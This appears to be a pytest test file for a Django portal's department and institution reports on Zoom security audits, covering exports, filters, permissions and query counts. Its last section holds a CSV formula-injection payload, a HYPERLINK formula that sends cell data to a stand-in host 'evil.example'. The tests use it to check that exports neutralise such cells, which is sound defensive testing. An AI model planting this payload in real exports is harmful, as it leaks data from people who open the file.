"""Department and institution reports: figures, filters, exports, and a query count that does
not grow with the number of hosts."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audits.checklist.items import ITEMS, ITEMS_BY_ID, profile_items
from audits.models import FailingItem, HostState, Snapshot, WeeklyScore, ZoomStatus
from audits.reports.readers import by_department, summary, tallies
from audits.reports.state import kept_counts, rebuild_tallies, record_state, recount, week_of
from audits.scoring.score import grade_for
from portal.models import Person
from tests.people import make_person
from tests.support import client_for

pytestmark = pytest.mark.django_db

WAITING_ROOM = "meeting.waiting_room.on"
PASSCODE = "meeting.passcode.new"
CLIENT = "concern.client.current"


def synced(host, score: int | None, failing=(), *, days_ago: float = 0, status="linked"):
    """A snapshot as the sync would store it, recorded through the sync's own state function."""
    results = {
        "score": score,
        "grade": grade_for(score),
        "items": [
            {"id": item.id, "status": "fail" if item.id in failing else "pass"} for item in ITEMS
        ],
        "meetings": [],
    }
    with transaction.atomic():
        snapshot = Snapshot.objects.create(
            host=host,
            zoom_status=status,
            taken_at=timezone.now() - timedelta(days=days_ago),
            results=results if status == "linked" else {},
            documents={"user": {"email": host.email}, "settings": {}} if status == "linked" else {},
            score=score if status == "linked" else None,
            grade=(grade_for(score) or "") if status == "linked" else "",
        )
        record_state(snapshot)
    return snapshot


def admin_of(department: str, email: str = "admin@utoronto.ca"):
    return make_person(
        email, department=department, roles=["dept_admin"], admin_departments=[department]
    )


def report_url(name: str = "report_department", **params: str) -> str:
    from urllib.parse import urlencode

    return reverse(name) + "?" + urlencode({"department": "Physics", **params})


@pytest.fixture
def physics():
    hosts = {
        "ada": make_person("ada@utoronto.ca", first_name="Ada", last_name="Lovelace"),
        "bo": make_person("bo@utoronto.ca", first_name="Bo", last_name="Brahe"),
        "cy": make_person("cy@utoronto.ca", first_name="Cy", last_name="Curie"),
        "never": make_person("never@utoronto.ca", first_name="Nev", last_name="Er"),
    }
    synced(hosts["ada"], 95, days_ago=14)
    synced(hosts["ada"], 97)
    synced(hosts["bo"], 50, failing=[WAITING_ROOM, PASSCODE], days_ago=40)
    synced(hosts["cy"], 30, failing=[WAITING_ROOM])
    make_person("hist@utoronto.ca", department="History", first_name="Hist", last_name="Orian")
    synced(make_person("hist2@utoronto.ca", department="History"), 10, failing=[CLIENT])
    return hosts


def test_the_sync_keeps_one_state_per_host_with_its_failing_items(physics):
    state = HostState.objects.get(host=physics["bo"])
    assert (state.department_key, state.score, state.grade) == ("physics", 50, "D")
    assert set(FailingItem.objects.filter(state=state).values_list("item_id", flat=True)) == {
        WAITING_ROOM,
        PASSCODE,
    }
    assert not state.hardened
    assert HostState.objects.get(host=physics["ada"]).hardened
    assert HostState.objects.get(host=physics["never"]).score is None


def test_a_host_no_longer_found_in_zoom_loses_score_and_failing_items(physics):
    synced(physics["cy"], None, status=ZoomStatus.NOT_FOUND)
    state = HostState.objects.get(host=physics["cy"])
    assert state.score is None
    assert state.failing_count == 0
    assert not FailingItem.objects.filter(state=state).exists()


def test_unreachable_keeps_the_last_good_reading(physics):
    synced(physics["cy"], None, status=ZoomStatus.UNREACHABLE)
    state = HostState.objects.get(host=physics["cy"])
    assert (state.score, state.zoom_status) == (30, "unreachable")


def test_a_department_change_at_sign_in_moves_the_host_in_the_reports(physics):
    person = physics["cy"].person
    person.department = "History"
    person.save()
    assert HostState.objects.get(host=physics["cy"]).department_key == "history"
    assert FailingItem.objects.get(state__host=physics["cy"]).department_key == "history"


def test_weekly_sums_count_each_scored_sync_in_its_week(physics):
    this_week = WeeklyScore.objects.get(department_key="physics", week=week_of(timezone.now()))
    assert (this_week.total, this_week.count) == (97 + 30, 2)


def test_department_report_shows_figures_charts_and_hosts(physics):
    response = client_for(admin_of("Physics")).get(report_url())
    assert response.status_code == 200
    page = response.content.decode()
    summary = response.context["summary"]
    # ada, bo, cy, never, and the admin themselves (every person is a host).
    assert summary["hosts"] == 5
    assert summary["scored"] == 3
    assert {g["grade"]: g["hosts"] for g in summary["grades"]} == {
        "A": 1,
        "B": 0,
        "C": 0,
        "D": 1,
        "F": 1,
    }
    assert summary["hardened"] == 1
    assert page.count("<svg") == 3, "distribution, failing items and trend charts"
    assert response.context["failing"][0]["id"] == WAITING_ROOM
    assert response.context["failing"][0]["hosts"] == 2
    assert "ada@utoronto.ca" in page
    assert "hist@utoronto.ca" not in page
    assert "hist2@utoronto.ca" not in page
    assert ITEMS_BY_ID[WAITING_ROOM].title in page


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"grade": "A"}, {"ada"}),
        ({"grade": "none"}, {"never", "admin"}),
        ({"item": WAITING_ROOM}, {"bo", "cy"}),
        ({"item": PASSCODE}, {"bo"}),
        ({"synced": "older"}, {"bo"}),
        ({"synced": "week"}, {"ada", "cy"}),
        ({"synced": "never"}, {"never", "admin"}),
        ({"grade": "D", "item": WAITING_ROOM}, {"bo"}),
    ],
)
def test_filters_narrow_the_table_and_the_exports(physics, params, expected):
    client = client_for(admin_of("Physics"))
    page = client.get(report_url(**params))
    shown = {row["state"].host.email.split("@")[0] for row in page.context["rows"]}
    assert shown == expected
    exported = csv.DictReader(io.StringIO(client.get(report_url("report_csv", **params)).text))
    assert {row["email"].split("@")[0] for row in exported} == expected
    data = client.get(report_url("report_json", **params)).json()
    assert {row["email"].split("@")[0] for row in data["hosts"]} == expected


def test_sorting_by_score(physics):
    client = client_for(admin_of("Physics"))
    rows = client.get(report_url(sort="score")).context["rows"]
    assert [r["state"].score for r in rows] == [None, None, 30, 50, 97]
    rows = client.get(report_url(sort="-score")).context["rows"]
    assert [r["state"].score for r in rows][:3] == [97, 50, 30]


def test_an_invalid_filter_is_shown_as_an_error_not_a_crash(physics):
    response = client_for(admin_of("Physics")).get(report_url(grade="Z"))
    assert response.status_code == 200
    assert response.context["form"].errors["grade"]
    assert len(response.context["rows"]) == 5


def test_csv_and_json_exports_use_checklist_item_ids(physics):
    client = client_for(admin_of("Physics"))
    response = client.get(report_url("report_csv"))
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(response.text))}
    assert rows["bo@utoronto.ca"]["failing_items"].split() == sorted([WAITING_ROOM, PASSCODE])
    assert rows["bo@utoronto.ca"]["grade"] == "D"
    data = json.loads(client.get(report_url("report_json")).content)
    assert data["department"] == "Physics"
    assert data["summary"]["hosts"] == 5
    cy = next(h for h in data["hosts"] if h["email"] == "cy@utoronto.ca")
    assert cy["failing_items"] == [WAITING_ROOM]
    assert cy["score"] == 30


def test_action_plan_lists_every_failing_item_per_host_with_its_fix(physics):
    response = client_for(admin_of("Physics")).get(report_url("report_action_plan"))
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["email"], r["item_id"]) for r in rows] == [
        ("bo@utoronto.ca", PASSCODE),
        ("bo@utoronto.ca", WAITING_ROOM),
        ("cy@utoronto.ca", WAITING_ROOM),
    ]
    assert rows[0]["fix"] == ITEMS_BY_ID[PASSCODE].how_to_fix
    assert rows[0]["portal_can_fix"] == "True"


def test_institution_report_shows_every_department_side_by_side(physics):
    portal_admin = make_person("boss@utoronto.ca", department="IT", roles=["portal_admin"])
    response = client_for(portal_admin).get(reverse("report_institution"))
    assert response.status_code == 200
    assert response.context["summary"]["hosts"] == 7
    names = [row["name"] for row in response.context["departments"]]
    assert names == ["History", "IT", "Physics"]
    assert response.content.decode().count("<svg") == 3


def test_a_department_admin_may_not_read_another_department_or_the_institution(physics):
    client = client_for(admin_of("Physics"))
    assert client.get(report_url(department="History")).status_code == 403
    assert client.get(report_url("report_csv", department="History")).status_code == 403
    assert client.get(reverse("report_institution")).status_code == 403


def test_department_names_match_whatever_their_case(physics):
    response = client_for(admin_of("Physics")).get(report_url(department="physics"))
    assert response.status_code == 200
    assert response.context["summary"]["hosts"] == 5


def test_profile_items_are_the_fixable_user_settings():
    PROFILE_ITEMS = [item.id for item in profile_items()]
    assert "meeting.waiting_room.on" in PROFILE_ITEMS
    assert "concern.client.current" not in PROFILE_ITEMS


def _seed(department: str, count: int) -> None:
    start = HostState.objects.count()
    for n in range(start, start + count):
        host = make_person(f"h{n}@utoronto.ca", department=department)
        synced(host, (n * 37) % 101, failing=[ITEMS[n % 5].id, WAITING_ROOM], days_ago=n % 20)


def _queries(client: Client, url: str) -> int:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


@pytest.mark.parametrize(
    "url",
    [
        report_url(),
        report_url("report_csv"),
        report_url("report_json"),
        report_url("report_action_plan"),
        report_url(item=WAITING_ROOM, sort="name"),
        reverse("report_institution"),
        reverse("reports"),
    ],
)
def test_query_count_does_not_grow_with_the_number_of_hosts(url, django_assert_num_queries):
    portal_admin = make_person("boss@utoronto.ca", department="IT", roles=["portal_admin"])
    client = client_for(portal_admin)
    _seed("Physics", 5)
    few = _queries(client, url)
    _seed("Physics", 45)  # 50 hosts now, in the same department
    with django_assert_num_queries(few):
        assert client.get(url).status_code == 200


def test_a_deactivated_host_leaves_the_reports_and_comes_back_with_their_reading(physics):
    ada = physics["ada"]
    ada.is_active = False
    ada.save()
    assert not HostState.objects.filter(host=ada).exists()
    page = client_for(admin_of("Physics")).get(report_url("report_csv"))
    assert "ada@utoronto.ca" not in page.text
    ada.is_active = True
    ada.save()
    assert HostState.objects.get(host=ada).score == 97


# --- The departments' counters ---------------------------------------------------------------
DEPARTMENTS = ["Physics", "History", "physics ", "Chemistry"]
STEPS = st.lists(
    st.one_of(
        st.tuples(
            st.just("sync"),
            st.integers(0, 3),
            st.one_of(st.none(), st.integers(0, 100)),
            st.sets(st.sampled_from([WAITING_ROOM, PASSCODE, CLIENT])),
            st.sampled_from(["linked", "not_found", "unreachable"]),
        ),
        st.tuples(st.just("move"), st.integers(0, 3), st.sampled_from(DEPARTMENTS)),
        st.tuples(st.just("deactivate"), st.integers(0, 3)),
        st.tuples(st.just("reactivate"), st.integers(0, 3)),
        st.tuples(st.just("forget"), st.integers(0, 3)),
    ),
    max_size=12,
)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(steps=STEPS)
def test_the_counters_equal_a_recount_after_syncs_moves_and_deactivations(steps):
    """Whatever happens to hosts (syncs of any outcome, department moves, deactivation and
    reactivation, a deleted person), the kept counters equal a recount from the states, and
    the institution report reads the same figures as a count of its hosts."""
    with transaction.atomic():
        hosts = [make_person(f"p{n}@utoronto.ca", department=DEPARTMENTS[n % 2]) for n in range(4)]
        for step in steps:
            host = hosts[step[1]]
            if step[0] == "sync" and Person.objects.filter(user=host).exists():
                _, _, score, failing, status = step
                synced(host, score if status == "linked" else None, failing, status=status)
            elif step[0] == "move" and Person.objects.filter(user=host).exists():
                host.person.department = step[2]
                host.person.save()
            elif step[0] in ("deactivate", "reactivate"):
                host.is_active = step[0] == "reactivate"
                host.save()
            elif step[0] == "forget":
                Person.objects.filter(user=host).delete()
            assert kept_counts() == recount(), step
        hosts_counted = HostState.objects.count()
        assert summary(tallies(None))["hosts"] == hosts_counted
        assert sum(row["hosts"] for row in by_department()) == hosts_counted
        transaction.set_rollback(True)


def test_counters_rebuilt_from_the_states_equal_the_kept_ones(physics):
    kept = kept_counts()
    rebuild_tallies()
    assert kept_counts() == kept
    assert kept[("physics", "item:" + WAITING_ROOM)] == 2
    assert kept[("physics", "hosts")] == 4
    assert kept[("physics", "score_total")] == 97 + 50 + 30


# --- CSV exports ----------------------------------------------------------------------------
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture
def formula_host(db):
    host = make_person("+1-formula@utoronto.ca", first_name=FORMULA, last_name="")
    synced(host, 40, failing=[WAITING_ROOM])
    return host


def _csv_rows(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


def test_host_csv_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(formula_host):
    response = client_for(admin_of("Physics")).get(report_url("report_csv"))

    (row,) = [row for row in _csv_rows(response) if row["name"].endswith(FORMULA)]
    assert row["name"] == "'" + FORMULA
    assert row["email"] == "'+1-formula@utoronto.ca"
    assert row["score"] == "40"  # numbers stay numbers


def test_action_plan_csv_neutralises_formulas_too(formula_host):
    response = client_for(admin_of("Physics")).get(report_url("report_action_plan"))

    rows = _csv_rows(response)
    assert "'+1-formula@utoronto.ca" in {row["email"] for row in rows}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
